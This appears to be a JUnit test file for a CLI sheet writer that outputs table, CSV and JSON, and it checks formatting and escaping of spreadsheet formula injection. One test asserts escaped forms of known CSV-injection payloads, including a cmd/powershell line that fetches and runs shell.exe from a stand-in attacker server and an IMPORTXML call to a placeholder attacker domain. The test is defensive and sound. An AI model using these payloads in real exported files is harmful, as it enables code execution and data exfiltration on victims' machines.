package daybreak.jobs.cli;

import static daybreak.jobs.cli.Sheet.column;
import static daybreak.jobs.cli.Sheet.hidden;
import static org.assertj.core.api.Assertions.assertThat;

import daybreak.jobs.SharedFolder;
import daybreak.jobs.cli.Sheet.Shown;
import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Files;
import java.time.LocalDate;
import java.time.OffsetDateTime;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

class SheetWriterTest {

    @Test
    void writesOneSheetInThreeForms() {
        Sheet sheet = new Sheet(
                column("name"), column("share"), hidden("day"), column("at"), hidden("reason.zh"), hidden("reason.en"));
        sheet.add(
                "门店",
                new Shown(0.1 + 0.2, "30.0%"),
                LocalDate.of(2026, 11, 22),
                OffsetDateTime.parse("2026-11-23T00:00:00+08:00"),
                "三天未联系",
                "silent, for 3 days");
        sheet.add("b", null, null, null, null, null);

        assertThat(written(sheet, OutputFormat.TABLE)).isEqualTo("""
                        name  share  at
                        门店  30.0%  2026-11-23 00:00
                        b         —  —
                        """);
        assertThat(written(sheet, OutputFormat.CSV)).isEqualTo("""
                        name,share,day,at,reason.zh,reason.en
                        门店,0.30000000000000004,2026-11-22,2026-11-23T00:00:00+08:00,三天未联系,"silent, for 3 days"
                        b,,,,,
                        """);
        assertThat(written(sheet, OutputFormat.JSON)).isEqualTo("""
                        [
                          {"name":"门店","share":0.30000000000000004,"day":"2026-11-22","at":"2026-11-23T00:00:00+08:00","reason":{"zh":"三天未联系","en":"silent, for 3 days"}},
                          {"name":"b","share":null,"day":null,"at":null,"reason":{"zh":null,"en":null}}
                        ]
                        """);
    }

    @Test
    void nothingFoundIsAnEmptyListOrAHeader() {
        Sheet sheet = new Sheet(column("name"));

        assertThat(written(sheet, OutputFormat.JSON)).isEqualTo("[]\n");
        assertThat(written(sheet, OutputFormat.CSV)).isEqualTo("name\n");
        assertThat(written(sheet, OutputFormat.TABLE)).isEqualTo("name\n");
    }

    @Test
    void aCellThatASpreadsheetWouldRunIsMadeText() {
        Sheet sheet = new Sheet(column("text"), column("number"), column("list"));
        sheet.add("=HYPERLINK(\"x\")", -1.5, List.of("@SUM", "b"));
        sheet.add("+1", -3L, List.of());
        sheet.add("-1", 1e-7, List.of("L1", "L2"));
        sheet.add("-1+2", 0L, List.of("＝A1"));
        sheet.add("\t=A1", 0L, List.of("\r=A1"));

        assertThat(written(sheet, OutputFormat.CSV)).isEqualTo("""
                        text,number,list
                        "'=HYPERLINK(""x"")",-1.5,'@SUM;b
                        '+1,-3,
                        -1,0.0000001,L1;L2
                        '-1+2,0,'＝A1
                        '\t=A1,0,"'\r=A1"
                        """);
    }

    @Test
    void noKnownInjectionIsWrittenSoThatASpreadsheetRunsIt() throws IOException {
        List<String> payloads = new ArrayList<>();
        for (String list : List.of("csv-injection/Intruder/csv-payload.txt", "payloads/CSV Injection/README.md")) {
            payloads.addAll(Files.readAllLines(SharedFolder.of("corpora/" + list)));
        }
        Sheet sheet = new Sheet(column("text"));
        payloads.forEach(payload -> sheet.add(payload.strip()));

        try (CsvReader<CsvRecord> csv = CsvReader.builder().ofCsvRecord(written(sheet, OutputFormat.CSV))) {
            List<String> cells =
                    csv.stream().skip(1).map(row -> row.getField(0)).toList();
            assertThat(cells).noneMatch(cell -> cell.matches("(?s)[=+\\-@\\t\\r].*"));
            assertThat(cells)
                    .contains(
                            "'=10+20+cmd|' /C calc'!A0",
                            "'@SUM(1+1)*cmd|' /C calc'!A0",
                            "'=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
                            "'=IMPORTXML(\"http://[ATTACKER.DOMAIN.TLD]/csv\", \"//a/@href\")");
        }
    }

    @Test
    void wholeNumbersHaveNoPointAndLargeOnesNoExponent() {
        Sheet sheet = new Sheet(column("value"), column("curve"));
        sheet.add(81.0, SheetWriter.parse("[{\"seconds\": 86400, \"survival\": 0.250}]"));
        sheet.add(1.2e10, SheetWriter.parse("{}"));

        assertThat(written(sheet, OutputFormat.JSON)).isEqualTo("""
                        [
                          {"value":81,"curve":[{"seconds":86400,"survival":0.25}]},
                          {"value":12000000000,"curve":{}}
                        ]
                        """);
    }

    @Test
    void controlCharactersCannotBreakATable() {
        Sheet sheet = new Sheet(column("text"));
        sheet.add("a\nb\u001b[31m");
        sheet.add("a\u202eb\u202c c");

        assertThat(written(sheet, OutputFormat.TABLE)).isEqualTo("text\na b [31m\na b  c\n");
    }

    private static String written(Sheet sheet, OutputFormat format) {
        StringWriter text = new StringWriter();
        new SheetWriter(new PrintWriter(text)).write(sheet, format);
        return text.toString();
    }
}
